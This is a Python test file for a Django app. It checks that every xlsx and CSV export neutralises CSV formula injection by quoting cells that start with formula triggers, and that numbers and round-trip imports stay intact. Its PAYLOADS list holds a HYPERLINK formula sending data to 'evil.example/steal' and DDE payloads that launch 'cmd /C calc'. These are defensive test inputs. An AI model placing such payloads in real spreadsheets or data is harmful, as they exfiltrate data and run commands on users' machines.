"""No exported cell is a formula (OWASP "CSV Injection"): text starting with = + - @ tab or
CR is written with a leading ' in xlsx and CSV, through every real export view; numbers
stay numbers; and an export imports back to the same text."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from gongjian.core.tabular import FORMULA_TRIGGERS, read_table, write_csv, write_xlsx
from gongjian.funds.services import transfer_create
from gongjian.orgs.models import Organization, Person
from gongjian.orgs.services import person_create
from gongjian.rounds.models import GeographyLink
from tests.conftest import Cast
from tests.dispatch.conftest import id_number
from tests.funds.conftest import make_pairs
from tests.joint.test_services import make_joint_cast

LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
PAYLOADS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(content: bytes, fmt: str) -> list[tuple[Any, str]]:
    """Every cell of an export as (value, openpyxl data type); CSV cells are text ("s")."""
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        return [(value, "s") for row in csv.reader(io.StringIO(text)) for value in row]
    book = load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, fmt: str, *expected: str) -> None:
    """No cell is a formula or text a spreadsheet would run; each of ``expected`` is there,
    neutralised by a leading quote (at the start of a cell)."""
    found = cells(content, fmt)
    assert [v for v, kind in found if kind == "f"] == []
    live = [v for v, _ in found if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS) and not _number(v)]
    assert live == []
    # xlsx keeps line ends as LF (XML normalises CR).
    texts = {v.replace("\r", "\n") for v, _ in found if isinstance(v, str)}
    missing = [e for e in expected if not any(t.startswith("'" + e.replace("\r", "\n")) for t in texts)]
    assert missing == [], sorted(texts)[:40]


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_text_is_neutralised_and_numbers_stay_numbers(fmt: str) -> None:
    rows = [[p, Decimal("-1200.50"), -3, 2.5, datetime.date(2026, 3, 5), None] for p in PAYLOADS]
    headers = ["名称", "金额"]
    content = write_xlsx(headers, rows, sheet_title="表") if fmt == "xlsx" else write_csv(headers, rows)
    assert_no_formula(content, fmt, *PAYLOADS)
    if fmt == "xlsx":
        amounts = [(v, kind) for v, kind in cells(content, fmt) if isinstance(v, int | float)]
        assert (-1200.5, "n") in amounts and (-3, "n") in amounts
    else:
        assert "-1200.50" in {v for v, _ in cells(content, fmt)}
    # Imported back, the quote is gone: the same text as exported.
    names = [row.get("名称") for row in read_table(content, f"表.{fmt}", columns=["名称", "金额"], required=[])]
    assert names == [p.strip() for p in PAYLOADS]


@pytest.mark.django_db
def test_every_export_view_writes_no_live_formula(cast: Cast) -> None:
    pairs = make_pairs(cast)
    jc = make_joint_cast(cast)
    person_create(actor=None, organization=cast.village, name=PAYLOADS[3], id_number=id_number(7))
    transfer_create(
        actor=cast.unit_user,
        pairing=pairs.main,
        date=datetime.date.today(),
        amount=Decimal("5000"),
        reference=PAYLOADS[1],
        note=LINK,
    )
    GeographyLink.objects.create(round=pairs.round, district=LINK, county=PAYLOADS[2])
    # Names as an import could have brought them (the services take them as they come).
    Organization.objects.filter(pk=cast.village.pk).update(name=LINK)
    Organization.objects.filter(pk=cast.unit.pk).update(name=PAYLOADS[2])
    Organization.objects.filter(pk=jc.committee.pk).update(name=PAYLOADS[4])
    assert Person.objects.filter(name=PAYLOADS[3]).exists()

    exports: list[tuple[Any, str, str, list[str]]] = [
        (cast.city_admin, "/orgs/export/organizations.{fmt}", "xlsx csv", [LINK, PAYLOADS[2]]),
        (cast.city_admin, "/orgs/export/people.{fmt}", "xlsx csv", [PAYLOADS[3]]),
        (cast.committee_admin, "/orgs/joint/export.{fmt}", "xlsx", [PAYLOADS[4]]),
        (cast.city_admin, f"/rounds/{pairs.round.pk}/geography/template.{{fmt}}", "xlsx csv", [LINK, PAYLOADS[2]]),
        (cast.unit_user, f"/funds/pairings/{pairs.main.pk}/ledger.{{fmt}}", "xlsx", [LINK]),
        (cast.committee_admin, f"/funds/villages/{cast.village.pk}/ledger.{{fmt}}", "xlsx", [PAYLOADS[2] + "（"]),
        (cast.auditor, "/audit/export.{fmt}", "xlsx csv", [LINK]),
        (cast.committee_admin, "/compliance/assessment/export.{fmt}", "xlsx", []),
        (cast.city_admin, "/dispatch/export/pool.{fmt}", "xlsx csv", []),
        (cast.city_admin, "/members/mobile/export.{fmt}", "xlsx csv", []),
        (cast.city_admin, "/members/pairs/export.{fmt}", "xlsx csv", []),
    ]
    for user, url, fmts, expected in exports:
        client = Client()
        client.force_login(user)
        for fmt in fmts.split():
            response = client.get(url.format(fmt=fmt))
            assert response.status_code == 200, (url, fmt, response.status_code)
            assert_no_formula(response.content, fmt, *expected)
